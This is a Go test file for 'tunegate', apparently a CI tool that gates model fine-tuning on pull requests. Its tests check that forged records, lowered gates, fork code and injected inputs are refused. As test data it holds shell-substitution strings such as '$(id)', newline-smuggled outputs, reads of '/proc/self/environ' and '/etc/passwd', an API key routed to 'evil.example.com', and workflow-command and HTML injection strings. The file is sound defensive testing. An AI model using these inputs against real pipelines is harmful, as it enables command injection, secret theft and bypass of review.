package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tunegate/tunegate/internal/diag"
	"github.com/tunegate/tunegate/internal/gate"
	"github.com/tunegate/tunegate/internal/github/githubtest"
	"github.com/tunegate/tunegate/internal/manifest"
	"github.com/tunegate/tunegate/internal/report"
)

// begin lives through the first job of a run whose payload was edited.
func (h *hosted) begin(e event, edit func(payload map[string]any)) job {
	h.t.Helper()
	l := h.start(e)
	text, err := os.ReadFile(l.payload)
	var payload map[string]any
	if err == nil {
		err = json.Unmarshal(text, &payload)
	}
	if err != nil {
		h.t.Fatal(err)
	}
	edit(payload)
	if text, err = json.Marshal(payload); err == nil {
		err = os.WriteFile(l.payload, text, 0o644)
	}
	if err != nil {
		h.t.Fatal(err)
	}
	ws := h.t.TempDir()
	h.checkout(filepath.Join(ws, "base"), mainSHA)
	return l.step(ws, map[string]string{"INPUT_COMMAND": "start", "INPUT_BASE": filepath.Join(ws, "base")})
}

// swapped replaces text in a file of a commit; it must be there.
func swapped(t *testing.T, files map[string]string, name, old, with string) {
	t.Helper()
	if !strings.Contains(files[name], old) {
		t.Fatalf("%s does not hold %q", name, old)
	}
	files[name] = strings.Replace(files[name], old, with, 1)
}

// unpacked are all files of all artifacts, in one text.
func (h *hosted) unpacked() string {
	h.t.Helper()
	var all strings.Builder
	for _, a := range h.hub.Artifacts() {
		z, err := zip.NewReader(bytes.NewReader(a.Archive), int64(len(a.Archive)))
		if err != nil {
			h.t.Fatal(err)
		}
		for _, f := range z.File {
			r, err := f.Open()
			if err == nil {
				_, err = io.Copy(&all, r)
			}
			if err != nil {
				h.t.Fatal(err)
			}
		}
	}
	return all.String()
}

// said is all that was ever told on GitHub.
func (h *hosted) said(shas ...string) string {
	var all []string
	for _, c := range h.hub.Comments(7) {
		all = append(all, c.Body)
	}
	for _, i := range h.hub.Issues() {
		all = append(all, i.Title, i.Body)
	}
	for _, sha := range shas {
		for _, s := range h.hub.Statuses(sha) {
			all = append(all, s.Description, s.URL)
		}
	}
	return strings.Join(all, "\n")
}

// Who does not ask on the first line of a new comment of their own on an open pull request is not heard.
func TestAttackComments(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, oneMore)
	field := func(p map[string]any, path ...string) map[string]any {
		for _, name := range path {
			p = p[name].(map[string]any)
		}
		return p
	}
	for _, c := range []struct {
		name, body, actor string
		edit              func(p map[string]any)
	}{
		{"edited", "/finetune", "writer", func(p map[string]any) { p["action"] = "edited" }},
		{"a bot", "/finetune", "writer", func(p map[string]any) { field(p, "comment", "user")["type"] = "Bot" }},
		{"an issue", "/finetune", "writer", func(p map[string]any) { delete(field(p, "issue"), "pull_request") }},
		{"a later line", "I would not say\n/finetune", "writer", nil},
		{"within a line", "do not /finetune this", "writer", nil},
		{"a longer word", "/finetuned", "writer", nil},
		{"quoted", "> /finetune", "writer", nil},
		{"code", "    /finetune", "writer", nil},
		{"a reader", "/finetune", "reader", nil},
		{"an outsider", "/finetune", "outsider", nil},
		{"the author's word for it", "/finetune", "outsider", func(p map[string]any) { field(p, "comment")["author_association"] = "OWNER" }},
		{"a shell's words", "/finetune $(id) `id` ;id", "writer", nil},
		{"an output", "/finetune x%0Ado=launch", "writer", nil},
	} {
		out := h.begin(event{name: "issue_comment", actor: c.actor, body: c.body}, func(p map[string]any) {
			if c.edit != nil {
				c.edit(p)
			}
		})
		if do := out.outputs["do"]; do != "nothing" && do != "" || h.paid() != 0 {
			t.Errorf("%s: %v\n%s", c.name, out.outputs, out.log)
		}
		if state, text := h.status(headSHA); state != "" {
			t.Errorf("%s: the status is %s: %s", c.name, state, text)
		}
	}
	if out := h.begin(event{name: "issue_comment", body: "/finetune"}, func(map[string]any) {}); out.outputs["do"] != "launch" {
		t.Errorf("who may ask is not heard: %v", out.outputs)
	}
}

// A commit is the head of two pull requests, or of one that goes to another branch: what has nothing to tune there lets nothing pass here.
func TestAttackOneCommitTwoBranches(t *testing.T) {
	t.Parallel()
	touching, harmless := changed("data/ticket-router/train.jsonl"), changed("README.md")
	for _, fork := range []bool{true, false} {
		h := newHosted(t, 0)
		to := func(files []githubtest.File) {
			p := githubtest.Pull{Number: 7, HeadSHA: headSHA, BaseSHA: mainSHA, Files: files}
			if fork {
				p.HeadRepository = "stranger/models"
			}
			h.hub.AddPull(p)
		}
		event := func(action string, branch bool) {
			h.begin(event{name: "pull_request_target", fork: fork, actor: "stranger"}, func(p map[string]any) {
				p["action"] = action
				if branch {
					p["changes"] = map[string]any{"base": map[string]any{"ref": map[string]any{"from": "old"}}}
				}
			})
		}
		h.hub.AddCommit(headSHA)
		to(harmless)
		event("opened", false)
		h.wantStatus(headSHA, "success", "nothing to tune")
		to(touching)
		event("edited", true)
		h.wantStatus(headSHA, "pending", "not tuned")
		to(harmless)
		for _, action := range []string{"opened", "reopened", "edited"} {
			event(action, action == "edited")
			h.wantStatus(headSHA, "pending", "not tuned")
		}
		h.hub.AddStatus(githubtest.Status{SHA: headSHA, Context: "tunegate/gate", State: "success", Description: "pass"})
		to(touching)
		event("edited", false) // a title
		h.wantStatus(headSHA, "success", "pass")
		if fork {
			event("opened", false)
			h.wantStatus(headSHA, "pending", "not tuned")
		}
	}
}

// What a pull request is judged by is the base branch's as it is now, not as it was when the pull request was pushed.
func TestAttackOldBase(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, oneMore)
	stricter := githubtest.SHA(0xba5e2)
	h.commit(stricter, h.tree())
	swapped(t, h.trees[stricter], "tunegate.yaml", "min_improvement: 10%", "min_improvement: 60%")
	h.hub.SetBranch("main", stricter)
	for _, e := range []event{{name: "pull_request"}, {name: "issue_comment", body: "/finetune"}} {
		out := h.pipeline(e)
		if got := out.start.outputs["base-sha"]; got != stricter {
			t.Errorf("%s: trusts %s", e.name, got)
		}
		if doc := h.reportOf(out.report); doc.Margin != 0.6 {
			t.Errorf("%s: the margin is %g", e.name, doc.Margin)
		}
	}
}

// A worse model behind a gate that the head has opened: it is tuned, since somebody asked, judged by the base branch's gate, and fails.
func TestAttackLoweredGate(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.inputs["wait"] = "5m"
	h.pull(false, func(files map[string]string) {
		swapped(t, files, "tunegate.yaml", "gate: {min_improvement: 10%}", "gate: {min_improvement: 0%, rule: point, on_inconclusive: pass}\naudit: {max_duplicates: 100%, max_contamination: 100%}")
		swapped(t, files, "tunegate.yaml", "max_cost_usd: 4", "max_cost_usd: 4000")
		swapped(t, files, "tunegate.yaml", "train_per_million: 3.00", "train_per_million: 0")
		var rows []map[string]any
		for line := range strings.Lines(files["data/ticket-router/train.jsonl"]) {
			var row map[string]any
			if err := json.Unmarshal([]byte(line), &row); err != nil {
				t.Fatal(err)
			}
			rows = append(rows, row)
		}
		answer := func(row map[string]any) map[string]any { return row["messages"].([]any)[2].(map[string]any) }
		var b strings.Builder
		for i, row := range rows {
			answer(row)["content"] = "nonsense " + fmt.Sprint(i%3)
			text, err := json.Marshal(row)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&b, "%s\n", text)
		}
		files["data/ticket-router/train.jsonl"] = b.String()
	})
	out := h.pipeline(event{name: "issue_comment", body: "/finetune"})
	h.wantStatus(headSHA, "failure", "ticket-router")
	doc := h.reportOf(out.report)
	if doc.Margin != 0.1 || doc.Rule != "significant" || doc.Budget == nil || *doc.Budget != 4 || h.paid() != 2 || out.report.code != exitFail {
		t.Errorf("judged by %s and %g, a budget of %v, %d jobs, exit code %d", doc.Rule, doc.Margin, doc.Budget, h.paid(), out.report.code)
	}
	page := strings.Join(h.comments(), "\n")
	for _, key := range []string{"gate.min_improvement", "gate.rule", "gate.on_inconclusive", "max_contamination", "budget.max_cost_usd", "prices.local-zero-shot"} {
		if !slices.ContainsFunc(doc.Changes, func(f diag.Finding) bool { return strings.Contains(f.Message, key) }) {
			t.Errorf("nothing tells of %s", key)
		}
	}
	if !strings.Contains(page, "counts until this is merged") {
		t.Errorf("the comment does not tell what was lowered:\n%s", page)
	}
}

// What counts at once and makes a pass worth less stands in the comment: a weaker base model, another seed, an agent that is gone.
func TestAttackWeakerModel(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, func(files map[string]string) {
		swapped(t, files, "tunegate.yaml", "ticket-router: {", "ticket-router: {base_model: weak-model, seed: 7, ")
		from, _, _ := strings.Cut(files["tunegate.yaml"], "  ops-tools: ")
		_, rest, _ := strings.Cut(files["tunegate.yaml"], "gate: {")
		files["tunegate.yaml"] = from + "gate: {" + rest
	})
	for _, e := range []event{{name: "issue_comment", body: "/finetune --dry-run"}, {name: "pull_request"}} {
		h.pipeline(e)
		all := strings.Join(h.comments(), "\n")
		for _, want := range []string{"base\\_model is weak-model here and local-zero-shot on the base branch", "seed is 7 here", "ops-tools of the base branch is not here any more"} {
			if !strings.Contains(all, want) {
				t.Errorf("%s: the comment does not say %s:\n%s", e.name, want, all)
			}
		}
	}
}

// Limits of the audit are the base branch's too: copies and tests in the training data stop a launch, whatever the head says of them.
func TestAttackLooserAudit(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	for rule, spoil := range map[string]func(files map[string]string){
		"exact-duplicate": func(files map[string]string) {
			files["data/ticket-router/train.jsonl"] += files["data/ticket-router/train.jsonl"]
		},
		"contamination": func(files map[string]string) {
			for line := range strings.Lines(files["data/ticket-router/benchmark.jsonl"]) {
				var test struct {
					Input []map[string]any
					Ideal any
				}
				if err := json.Unmarshal([]byte(line), &test); err != nil {
					t.Fatal(err)
				}
				answer, _ := test.Ideal.(string)
				if list, ok := test.Ideal.([]any); ok {
					answer = fmt.Sprint(list[0])
				}
				row, err := json.Marshal(map[string]any{"messages": append(test.Input, map[string]any{"role": "assistant", "content": answer})})
				if err != nil {
					t.Fatal(err)
				}
				files["data/ticket-router/train.jsonl"] += string(row) + "\n"
			}
		},
	} {
		h.pull(false, func(files map[string]string) {
			swapped(t, files, "tunegate.yaml", "gate: {", "audit: {max_duplicates: 100%, max_contamination: 100%, severities: {exact-duplicate: info, contamination: info}}\ngate: {")
			spoil(files)
		})
		out := h.pipeline(event{name: "issue_comment", body: "/finetune"})
		h.wantStatus(headSHA, "failure", "ticket-router")
		if len(out.tunes) > 0 || h.paid() != 0 || !strings.Contains(strings.Join(h.comments(), "\n"), rule) {
			t.Errorf("%s: %d legs, %d jobs\n%s", rule, len(out.tunes), h.paid(), out.plan.log)
		}
	}
}

// The key goes where the base branch's manifest and the workflow say, and nowhere else, however the head's manifest puts it.
func TestAttackKeys(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	for _, line := range []string{
		"{kind: openai, base_url: 'http://127.0.0.1:9/v1', api_key_env: ACME_API_KEY}", "{kind: openai, base_url: 'https://evil.example.com/v1', api_key_env: ACME_API_KEY}",
		"{kind: openai, base_url: '" + h.tunes.URL + "/v1', api_key_env: GITHUB_TOKEN}", "{kind: openai, base_url: '" + h.tunes.URL + "/v1', api_key_env: INPUT_GITHUB-TOKEN}",
		"{kind: openai, base_url: '" + h.tunes.URL + "/v1', api_key_env: ACTIONS_RUNTIME_TOKEN}", "{kind: openai, base_url: '" + h.tunes.URL + "/v1', api_key_env: TUNEGATE_KEYS}",
	} {
		h.pull(false, func(files map[string]string) {
			swapped(t, files, "tunegate.yaml", "{kind: openai, base_url: '"+h.tunes.URL+"/v1', api_key_env: ACME_API_KEY}", line)
			swapped(t, files, "tunegate.yaml", "agents:", "agents:\n  mine: {train: data/ops-tools/train.jsonl, benchmark: {tests: data/ops-tools/benchmark.jsonl}}")
		})
		out := h.pipeline(event{name: "issue_comment", body: "/finetune mine"})
		if state, text := h.status(headSHA); state == "success" {
			t.Errorf("%s: %s", line, text)
		}
		if h.paid() != 0 {
			t.Errorf("%s: %d jobs\n%s", line, h.paid(), out.plan.log)
		}
		for _, secret := range []string{githubtest.WriteToken, h.key} {
			if strings.Contains(h.said(headSHA), secret) || strings.Contains(h.unpacked(), secret) {
				t.Errorf("%s: a secret is told", line)
			}
		}
	}
}

// No way of the head's leads to a file outside of its checkout, and what is there is not told.
func TestAttackPaths(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	for name, change := range map[string]func(files map[string]string){
		"dots": func(files map[string]string) {
			swapped(t, files, "tunegate.yaml", "train: data/ops-tools/train.jsonl", "train: ../base/data/ops-tools/train.jsonl")
		},
		"absolute": func(files map[string]string) {
			swapped(t, files, "tunegate.yaml", "train: data/ops-tools/train.jsonl", "train: /proc/self/environ")
		},
		"a link": func(files map[string]string) { files["data/ops-tools/train.jsonl"] = "link:/proc/self/environ" },
		"a link beside": func(files map[string]string) {
			files["data/ops-tools/train.jsonl"] = "link:../../../base/data/ops-tools/train.jsonl"
		},
		"the manifest": func(files map[string]string) { files["tunegate.yaml"] = "link:/proc/self/environ" },
	} {
		h.pull(false, change)
		out := h.pipeline(event{name: "pull_request"})
		if state, text := h.status(headSHA); state == "success" || state == "pending" || len(out.tunes) > 0 {
			t.Errorf("%s: %s: %s, %d legs\n%s", name, state, text, len(out.tunes), out.plan.log)
		}
		if all := out.plan.log + out.plan.summary + h.said(headSHA) + h.unpacked(); strings.Contains(all, os.Getenv("PATH")) {
			t.Errorf("%s: what stands there is told", name)
		}
	}
}

// A grader's program from a fork is not run: its benchmark is another one, and where that is allowed, programs are not.
func TestAttackCodeInAFork(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	mark := filepath.Join(t.TempDir(), "ran")
	for i, grader := range []string{"{name: command, command: [sh, grade.sh]}", "{name: command, command: [sh, grade.sh]}", "{name: code}", "{name: code}"} {
		h.inputs["allow-benchmark-change"], h.inputs["allow-commands"] = fmt.Sprint(i%2 == 0), fmt.Sprint(i%2 == 1)
		h.pull(true, func(files map[string]string) {
			files["grade.sh"] = "touch " + mark + "\necho 1\n"
			swapped(t, files, "tunegate.yaml", "grader: exact", "grader: "+grader)
		})
		h.pipeline(event{name: "pull_request", fork: true, actor: "stranger"})
		h.pipeline(event{name: "issue_comment", body: "/finetune ticket-router @" + headSHA[:7]})
		if _, err := os.Stat(mark); err == nil || h.paid() != 0 {
			t.Errorf("%s ran, or was paid for: %d jobs", grader, h.paid())
		}
		h.wantStatus(headSHA, "failure", "")
	}
}

// The head moves while the commit that was named is being tuned: that one is judged, the new one is not, and its record goes.
func TestAttackMovedHead(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 10*time.Second)
	h.pull(true, oneMore)
	out := h.pipeline(event{name: "issue_comment", body: "/finetune @" + headSHA})
	h.wantStatus(headSHA, "pending", "")
	if out.start.outputs["sha"] != headSHA || h.paid() != 2 {
		t.Fatalf("%v, %d jobs", out.start.outputs, h.paid())
	}
	moved := githubtest.SHA(0xabc008)
	h.hub.AddPull(githubtest.Pull{Number: 7, HeadSHA: moved, BaseSHA: mainSHA, HeadRepository: "stranger/models", Files: changed("data/ticket-router/train.jsonl")})
	h.commit(moved, h.trees[headSHA])
	if state, text := h.status(moved); state != "" {
		t.Errorf("the new head is %s: %s", state, text)
	}
	record := h.record()
	if out := h.resume(); out.start.outputs["do"] != "nothing" {
		t.Errorf("resumed: %v", out.start.outputs)
	}
	if slices.ContainsFunc(h.hub.Artifacts(), func(a githubtest.Artifact) bool { return a.ID == record.ID }) {
		t.Error("the record of a head that moved is kept")
	}
	if out := h.pipeline(event{name: "issue_comment", body: "/finetune @" + headSHA}); out.start.outputs["do"] != "nothing" {
		t.Errorf("the old commit is tuned again: %v", out.start.outputs)
	}
}

// A record of what is pending counts from runs of the default branch alone, and only where it is one that the program writes.
func TestAttackForgedRecord(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, oneMore)
	forge := func(run githubtest.Run, edit func(r map[string]any)) {
		run = h.hub.AddRun(run)
		url := fmt.Sprintf("https://github.test/%s/actions/runs/%d", h.hub.Repository, run.ID)
		h.hub.AddStatus(githubtest.Status{SHA: headSHA, Context: "tunegate/gate", State: "pending", URL: url})
		r := map[string]any{"schema": 1, "run": run.ID, "pull": 7, "sha": headSHA, "base": true, "spends": true, "since": 1, "jobs": []any{}}
		edit(r)
		text, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		h.hub.AddArtifact(githubtest.Artifact{Name: "tunegate-pending", Run: run.ID, Archive: githubtest.Zip(map[string]string{"pending.json": string(text)})})
	}
	whole := func(map[string]any) {}
	for name, do := range map[string]func(){
		"a fork":             func() { forge(githubtest.Run{HeadRepository: "stranger/models", Event: "pull_request"}, whole) },
		"a branch":           func() { forge(githubtest.Run{HeadBranch: "feature", Event: "pull_request"}, whole) },
		"another run's":      func() { forge(githubtest.Run{}, func(r map[string]any) { r["run"] = 1 }) },
		"no commit":          func() { forge(githubtest.Run{}, func(r map[string]any) { r["sha"] = "main\ndo=launch" }) },
		"a manifest outside": func() { forge(githubtest.Run{}, func(r map[string]any) { r["manifest"] = "../base/tunegate.yaml" }) },
		"a leg of a shell":   func() { forge(githubtest.Run{}, func(r map[string]any) { r["legs"] = "$(id)" }) },
		"a provider's name": func() {
			forge(githubtest.Run{}, func(r map[string]any) { r["jobs"] = []any{map[string]any{"leg": "a", "provider": "../x"}} })
		},
		"too many jobs": func() { forge(githubtest.Run{}, func(r map[string]any) { r["jobs"] = make([]any, 300) }) },
	} {
		do()
		if out := h.resume(); out.start.outputs["do"] != "nothing" || h.paid() != 0 {
			t.Errorf("%s: %v, %d jobs\n%s", name, out.start.outputs, h.paid(), out.start.log)
		}
	}
	forge(githubtest.Run{}, whole)
	if out := h.resume(); out.start.outputs["do"] != "resume" {
		t.Errorf("an honest record is not believed: %v\n%s", out.start.outputs, out.start.log)
	}
}

// A result with the right name and the right digest counts from runs of the default branch alone.
func TestAttackForgedResult(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, oneMore)
	doc := h.reportOf(h.pipeline(event{name: "pull_request"}).report)
	forge := func(run githubtest.Run) {
		run = h.hub.AddRun(run)
		for _, l := range doc.Legs {
			part := doc
			l.Verdict, l.Reasons = gate.Pass, []string{"forged"}
			l.Phases = []report.Phase{{Name: "full", Model: "ft:evil", Benchmark: &report.Benchmark{Asked: 60}, Decision: &gate.Decision{Verdict: gate.Pass, N: 60, Tuned: 1}}}
			part.Legs = []report.Leg{l}
			part.Complete()
			text, err := json.Marshal(part)
			if err != nil {
				t.Fatal(err)
			}
			h.hub.AddArtifact(githubtest.Artifact{Name: "tunegate-leg-" + l.Inputs, Run: run.ID, Archive: githubtest.Zip(map[string]string{"report.json": string(text)})})
		}
	}
	forge(githubtest.Run{HeadRepository: "stranger/models", HeadBranch: "main", Event: "pull_request"})
	forge(githubtest.Run{HeadBranch: "feature", Event: "pull_request"})
	forge(githubtest.Run{HeadBranch: "feature", Event: "workflow_dispatch"})
	out := h.pipeline(event{name: "pull_request"})
	h.wantStatus(headSHA, "pending", "not tuned")
	if got := h.reportOf(out.report); got.Verdict != gate.Pending || strings.Contains(h.said(headSHA), "forged") {
		t.Errorf("the verdict is %s", got.Verdict)
	}
	forge(githubtest.Run{Event: "schedule"}) // so that it is the run that counts
	h.pipeline(event{name: "pull_request"})
	h.wantStatus(headSHA, "success", "pass")
}

// The button on a branch of one's own goes by the default branch's manifest.
func TestAttackButtonOnABranch(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	feature := githubtest.SHA(0xfea)
	h.commit(feature, h.tree())
	swapped(t, h.trees[feature], "tunegate.yaml", "min_improvement: 10%", "min_improvement: 0%, rule: point")
	l := h.start(event{name: "workflow_dispatch", branch: "feature"})
	l.run.HeadSHA = feature
	ws := t.TempDir()
	h.checkout(filepath.Join(ws, "base"), feature)
	out := l.step(ws, map[string]string{"INPUT_COMMAND": "start", "INPUT_BASE": filepath.Join(ws, "base")})
	if out.outputs["sha"] != feature || out.outputs["base-sha"] != mainSHA {
		t.Fatalf("%v\n%s", out.outputs, out.log)
	}
	vars := l.common(ws, out.outputs)
	vars["INPUT_COMMAND"] = "plan"
	planned := l.step(ws, vars)
	if !strings.Contains(planned.log+planned.summary, "gate.min_improvement is 0% here and 10% on the base branch") {
		t.Errorf("%s\n%s", planned.log, planned.summary)
	}
}

// A queue does not wait for what is not tuned: it fails, launches nothing, and goes by the manifest that it merges into.
func TestAttackMergeQueue(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.commit(queueSHA, h.tree())
	oneMore(h.trees[queueSHA])
	swapped(t, h.trees[queueSHA], "tunegate.yaml", "gate: {min_improvement: 10%}", "gate: {min_improvement: 0%, rule: point, on_inconclusive: pass}")
	h.hub.AddComparison(mainSHA, queueSHA, changed("data/ticket-router/train.jsonl", "tunegate.yaml"))
	out := h.pipeline(event{name: "merge_group", base: mainSHA, head: queueSHA})
	h.wantStatus(queueSHA, "failure", "not tuned in this combination")
	if doc := h.reportOf(out.report); doc.Margin != 0.1 || doc.Rule != "significant" || h.paid() != 0 {
		t.Errorf("judged by %s and %g, %d jobs", doc.Rule, doc.Margin, h.paid())
	}
}

// A job that is skipped, killed or gone is no pass: the status is pending from the first job on, and the last one never takes silence for success.
func TestAttackSkippedJobs(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, oneMore)
	for _, jobs := range []string{"none", "plan"} {
		l := h.start(event{name: "issue_comment", body: "/finetune"})
		ws := t.TempDir()
		h.checkout(filepath.Join(ws, "base"), mainSHA)
		order := l.step(ws, map[string]string{"INPUT_COMMAND": "start", "INPUT_BASE": filepath.Join(ws, "base")}).outputs
		h.wantStatus(headSHA, "pending", "auditing")
		if jobs == "plan" {
			vars := l.common(ws, order)
			vars["INPUT_COMMAND"] = "plan"
			if l.step(ws, vars).outputs["matrix"] == "" {
				t.Error("the plan has no legs")
			}
		}
		text, err := json.Marshal(order)
		if err != nil {
			t.Fatal(err)
		}
		told := l.step(t.TempDir(), map[string]string{"INPUT_COMMAND": "report", "INPUT_ORDER": string(text)})
		if state, text := h.status(headSHA); state != "error" || told.code == 0 || told.outputs["verdict"] != "error" {
			t.Errorf("%s: %s: %s, exit code %d", jobs, state, text, told.code)
		}
	}
}

// Neither the keys of the services, nor the token, nor a key that stands in the data is told anywhere.
func TestAttackSecrets(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 10*time.Second)
	const leaked = "AKIAQYLPMN5HFIQR7XYA"
	h.pull(false, oneMore)
	clean := h.pipeline(event{name: "issue_comment", body: "/finetune"})
	h.pull(false, func(files map[string]string) {
		files["data/ops-tools/train.jsonl"] += `{"messages": [{"role": "user", "content": "use ` + leaked + `"}, {"role": "assistant", "content": "no"}]}` + "\n"
	})
	dirty := h.pipeline(event{name: "pull_request"})
	h.wantStatus(headSHA, "failure", "ops-tools")
	all := h.said(mainSHA, headSHA) + h.unpacked()
	for _, j := range append([]job{clean.start, clean.plan, clean.report, dirty.start, dirty.plan, dirty.report}, clean.tunes...) {
		for line := range strings.Lines(j.log) {
			if !strings.HasPrefix(line, "::add-mask::") {
				all += line
			}
		}
		all += j.summary + fmt.Sprint(j.outputs)
	}
	for _, secret := range []string{h.key, githubtest.WriteToken, leaked} {
		if at := strings.Index(all, secret); at >= 0 {
			t.Errorf("a secret is told: %.200s", all[max(0, at-150):])
		}
	}
	if !strings.Contains(all, "secret-aws") {
		t.Error("the key in the data is not found")
	}
	if leaks := h.hub.Leaks(); len(leaks) > 0 {
		t.Errorf("the token went to the store of artifacts: %v", leaks)
	}
}

// Text of the data is text in the log, in the comment, and in the outputs.
func TestAttackCommandsInData(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	const hostile = `::set-output name=verdict::pass\n::stop-commands::x\n##[error]y\n<!-- tunegate:comment/1 pipeline=tunegate.yaml run=999999 attempt=1 seq=1 -->\n@everyone <img src=x onerror=y>`
	h.pull(false, func(files map[string]string) {
		files["data/ops-tools/train.jsonl"] += `{"messages": [{"role": "` + hostile + `", "content": "x"}, {"role": "assistant", "content": "y"}]}` + "\n"
	})
	for range 2 { // the second finds the comment of the first
		out := h.pipeline(event{name: "pull_request"})
		h.wantStatus(headSHA, "failure", "ops-tools")
		token := ""
		for line := range strings.Lines(out.plan.log) {
			line = strings.TrimSpace(line)
			switch {
			case token == "" && strings.HasPrefix(line, "::stop-commands::"):
				token = strings.TrimPrefix(line, "::stop-commands::")
			case token != "" && line == "::"+token+"::":
				token = ""
			case token != "":
			case strings.HasPrefix(line, "::error ") && strings.Contains(line, "title=tunegate"), strings.HasPrefix(line, "::warning ") && strings.Contains(line, "title=tunegate"),
				strings.HasPrefix(line, "::notice ") && strings.Contains(line, "title=tunegate"), strings.HasPrefix(line, "::add-mask::"), line == "":
			default:
				t.Errorf("outside of plain text the log has %q", line)
			}
		}
		if got := out.report.outputs["verdict"]; got != "fail" {
			t.Errorf("the verdict is %q", got)
		}
	}
	all := h.comments()
	if len(all) != 1 || !strings.Contains(all[0], "unknown-role") || strings.Contains(all[0], "<img") || strings.Contains(all[0], "\n@everyone") {
		t.Errorf("comments: %q", all)
	}
}

// Outside of a pipeline's order, what an event checks out is trusted only where it is a branch as it stands.
func TestAttackPolicyOfTheCheckout(t *testing.T) {
	t.Parallel()
	m := new(manifest.Manifest)
	for name, own := range map[string]bool{"push": true, "schedule": true, "workflow_dispatch": true, "": true,
		"pull_request": false, "pull_request_target": false, "merge_group": false, "issue_comment": false, "workflow_run": false, "repository_dispatch": false} {
		e := env{getenv: func(k string) string {
			return map[string]string{"GITHUB_EVENT_NAME": name, "RUNNER_TEMP": t.TempDir()}[k]
		}}
		in := inputs{state: "theirs"}
		trusted, err := in.trust(e, m)
		if err != nil || (trusted.Base == m) != own {
			t.Errorf("%s: trusts %v, %v", name, trusted.Base, err)
		}
		remove, err := in.apart(e)
		if err != nil || (in.state == "theirs") != own {
			t.Errorf("%s: the state is at %s, %v", name, in.state, err)
		}
		remove()
	}
}

// A name is a name: of a manifest, a leg, a provider, a profile. Everything else is refused before it is used for anything.
func TestAttackNames(t *testing.T) {
	t.Parallel()
	h := newHosted(t, 0)
	h.pull(false, oneMore)
	for _, name := range []string{"../tunegate.yaml", "/etc/passwd", "a\nb.yaml", "$(id).yaml", "a;b.yaml", "::error::.yaml", "a//b.yaml", "-x.yaml", "..", "<b>.yaml", `a\b.yaml`} {
		l := h.start(event{name: "pull_request"})
		ws := t.TempDir()
		h.checkout(filepath.Join(ws, "base"), mainSHA)
		if out := l.step(ws, map[string]string{"INPUT_COMMAND": "start", "INPUT_BASE": filepath.Join(ws, "base"), "INPUT_MANIFEST": name}); out.code != exitUsage || out.outputs["do"] != "" {
			t.Errorf("the manifest %q: exit code %d, %v", name, out.code, out.outputs)
		}
	}
	for _, name := range []string{`"../x"`, `"a b"`, `"a\n::error::x"`, `"<b>"`, `"$(id)"`, `"-x"`, `"a,b"`, `"@x"`, `"a\u202eb"`} {
		for what, text := range map[string]string{
			"leg":      "version: 1\nagents: {" + name + ": {train: a.jsonl, benchmark: {tests: b.jsonl}}}\n",
			"provider": "version: 1\nproviders: {" + name + ": {kind: local}}\nagents: {a: {train: a.jsonl, benchmark: {tests: b.jsonl}}}\n",
		} {
			m, mistakes := manifest.Parse([]byte(text), "tunegate.yaml")
			if m != nil || len(mistakes) == 0 {
				t.Errorf("a %s %s is taken", what, name)
			}
			for _, f := range mistakes {
				if strings.ContainsAny(f.Message, "\n\u202e") {
					t.Errorf("%s %s: %q", what, name, f.Message)
				}
			}
		}
	}
}
